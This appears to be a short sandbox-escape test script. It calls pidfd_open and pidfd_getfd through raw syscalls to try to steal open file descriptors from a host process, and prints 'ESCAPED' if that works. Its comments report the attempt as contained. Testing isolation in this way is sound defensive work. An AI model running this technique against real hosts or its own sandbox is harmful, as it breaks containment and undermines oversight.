# Tries: take open files from a process of the host (pidfd_getfd).
# Contained: the process is not there.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
pidfd = libc.syscall(434, victim_pid, 0)
print("pidfd_open", pidfd)
for fd in range(5):
    got = libc.syscall(438, pidfd, fd, 0)
    if got >= 0:
        print("ESCAPED: took descriptor", fd, "of process", victim_pid)
